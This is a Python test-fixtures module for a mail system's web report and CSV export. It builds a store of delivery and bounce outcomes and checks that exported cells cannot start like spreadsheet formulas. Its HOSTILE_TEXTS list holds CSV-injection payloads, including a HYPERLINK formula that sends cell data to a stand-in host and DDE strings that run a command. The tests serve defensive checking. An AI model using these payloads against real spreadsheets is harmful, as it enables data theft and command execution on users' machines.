"""Shared fixtures of the report tests: a config, a store with outcomes, a StubTreq."""

from __future__ import annotations

import json
from typing import Any

from treq.testing import StubTreq
from twisted.internet.defer import Deferred
from twisted.internet.task import Clock

from hurricane.config import Config, WebConfig
from hurricane.credentials import SecretVerifier
from hurricane.model import (
    AttemptResult,
    BounceEvent,
    EventKind,
    NewMessage,
    NewRecipient,
    ReturnedMessage,
    State,
)
from hurricane.passwords import hash_password
from hurricane.report.web import build_web_site
from hurricane.store.memory import MemoryStore

T0 = 1_700_000_000.0
TOKEN = "s3cret-token"
CSRF_SECRET = b"k" * 32


def make_config(*, tokens: bool = True, users: dict[str, str] | None = None,
                listen: tuple[str, ...] = ("tcp:8025:interface=127.0.0.1",)) -> Config:
    """A Config whose [web] has one API token (fast pbkdf2) unless ``tokens`` is False."""
    token_hashes = {"app": hash_password(TOKEN, iterations=1000)} if tokens else {}
    user_hashes = {name: hash_password(pw, iterations=1000) for name, pw in (users or {}).items()}
    return Config(web=WebConfig(listen=listen, tokens=token_hashes, users=user_hashes))


def run(coro: Any) -> Any:
    """Run a MemoryStore coroutine to completion (it never waits)."""
    d = Deferred.fromCoroutine(coro)
    results: list[Any] = []
    d.addBoth(results.append)
    if not results:
        raise AssertionError("coroutine did not complete synchronously")
    if hasattr(results[0], "raiseException"):
        results[0].raiseException()
    return results[0]


def populate(store: MemoryStore, now: float = T0) -> dict[str, Any]:
    """Messages in every interesting state, created at ``now - 600``."""
    at = now - 600
    r = run(store.enqueue(NewMessage(
        sender="app@sender.test",
        recipients=tuple(NewRecipient(a) for a in (
            "ok@one.test", "gone@one.test", "later@two.test", "bounce@two.test",
            "angry@three.test")),
        body=b"Subject: hi\r\n\r\nhello\r\n", mailing_id="Spring-26", message_id="M-1",
        header_message_id="h1@sender.test"), at))
    ok, gone, later, bounce, angry = [x.delivery_id for x in r.recipients]
    run(store.record_attempts([
        AttemptResult(delivery_id=ok, state=State.delivered, at=at + 5, code=250, text="ok",
                      remote_host="mx.one.test",
                      tls="TLSv1.3"),
        AttemptResult(delivery_id=gone, state=State.failed, at=at + 5, code=550, status="5.1.1",
                      text="no such user", reason="userunknown", hard=True, suppress=True),
        AttemptResult(delivery_id=later, state=State.deferred, at=at + 5, code=451,
                      text="try later",
                      next_attempt_at=at + 900),
        AttemptResult(delivery_id=bounce, state=State.delivered, at=at + 5, code=250),
        AttemptResult(delivery_id=angry, state=State.delivered, at=at + 5, code=250),
    ]))
    bounce_id = run(store.store_bounce(ReturnedMessage(
        b"From: mailer-daemon\r\n\r\n<b>gone</b>", "", "verp@bounce.test", at + 60)))
    run(store.record_bounce(bounce_id, [
        BounceEvent(delivery_id=bounce, kind=EventKind.bounce, at=at + 60, bounce_id=bounce_id,
                    reason="mailboxfull",
                    status="5.2.2", text="mailbox full", rule="dsn-status", correlation="verp"),
        BounceEvent(delivery_id=angry, kind=EventKind.complaint, at=at + 70, reason="feedback",
                    source="arf",
                    correlation="verp"),
    ], "bounce", "verp", "{}"))
    return {"result": r, "ids": (ok, gone, later, bounce, angry), "bounce_id": bounce_id}


class WebFixture:
    """A MemoryStore, a Clock at T0 and a StubTreq over the site."""

    def __init__(self, config: Config | None = None, populated: bool = True,
                 verifier: SecretVerifier | None = None) -> None:
        self.store = MemoryStore()
        run(self.store.open())
        self.clock = Clock()
        self.clock.advance(T0)
        self.data = populate(self.store) if populated else {}
        self.woken = 0
        self.config = config or make_config()
        self.site = build_web_site(self.config, self.store, self.clock,
                                   on_enqueued=self.wake, csrf_secret=CSRF_SECRET,
                                   verifier=verifier)
        self.treq = StubTreq(self.site.resource)

    def wake(self) -> None:
        """The on_enqueued hook: counts calls."""
        self.woken += 1

    def auth(self, token: str = TOKEN) -> dict[str, list[str]]:
        """Headers carrying a bearer token."""
        return {"Authorization": [f"Bearer {token}"]}


def body_of(fixture: WebFixture, d: Deferred[Any]) -> tuple[Any, str]:
    """The response and its body text of a StubTreq request (flushed)."""
    fixture.treq.flush()
    got: list[Any] = []
    d.addBoth(got.append)
    fixture.treq.flush()
    response = got[0]
    if hasattr(response, "raiseException"):
        response.raiseException()
    text: list[Any] = []
    fixture.treq.content(response).addBoth(text.append)
    fixture.treq.flush()
    return response, text[0].decode("utf-8")


def json_of(fixture: WebFixture, d: Deferred[Any]) -> tuple[Any, Any]:
    """The response and its JSON body."""
    response, text = body_of(fixture, d)
    return response, json.loads(text)


#: Cell values a sender of returned mail (or a remote MTA's reply) may choose;
#: every CSV path is tested with these same values.
HOSTILE_TEXTS = (
    '=HYPERLINK("http://evil.example/?"&A1,"click me")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\uff1d1+1",
    'plain, "quoted"\r\nsecond line',
)
#: What starts a formula (OWASP): no CSV cell may start with one unescaped.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


async def store_hostile(store: Any, at: float = T0) -> None:
    """One message whose recipients failed with each of :data:`HOSTILE_TEXTS` as the
    reply text (and a recipient address starting with ``-``)."""
    if not store.is_open:
        await store.open()
    result = await store.enqueue(NewMessage(
        sender="app@sender.test",
        recipients=tuple(NewRecipient(f"-r{i}@x.test") for i in range(len(HOSTILE_TEXTS))),
        body=b"Subject: hi\r\n\r\nhello\r\n"), at)
    await store.record_attempts([
        AttemptResult(delivery_id=r.delivery_id, state=State.failed, at=at + 5, code=550,
                      status="5.1.1",
                      text=text, reason="userunknown", hard=True, remote_host=text)
        for r, text in zip(result.recipients, HOSTILE_TEXTS, strict=True)])


def check_csv_cells(case: Any, text: str) -> list[dict[str, str]]:
    """Assert that no cell of a CSV text starts like a formula; return its rows as dicts.

    Also checks the one cell format: booleans ``true``/``false``, timestamps
    (the ``*_at`` columns) ISO 8601 UTC to the second or empty, hostile reply
    texts present with a leading ``'``.
    """
    import csv
    import io
    import re

    rows = list(csv.reader(io.StringIO(text, newline="")))
    for row in rows:
        for cell in row:
            case.assertFalse(cell.startswith(FORMULA_STARTS), repr(cell))
            case.assertFalse(cell.lstrip().startswith(FORMULA_STARTS), repr(cell))
    header, *body = rows
    records = [dict(zip(header, row, strict=True)) for row in body]
    hostile = [r for r in records if r["recipient"].startswith("'-r")]
    # all but the last (plain) value start like a formula
    case.assertEqual(sorted(r["text"] for r in hostile),
                     sorted(["'" + t for t in HOSTILE_TEXTS[:-1]] + [HOSTILE_TEXTS[-1]]))
    case.assertEqual({r["hard"] for r in records} - {"true", "false"}, set())
    case.assertEqual({r["hard"] for r in hostile}, {"true"})
    iso = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ")
    times = [name for name in header if name.endswith("_at")]
    case.assertIn("created_at", times)
    for r in records:
        for name in times:
            case.assertTrue(r[name] == "" or iso.fullmatch(r[name]), (name, r[name]))
    return records
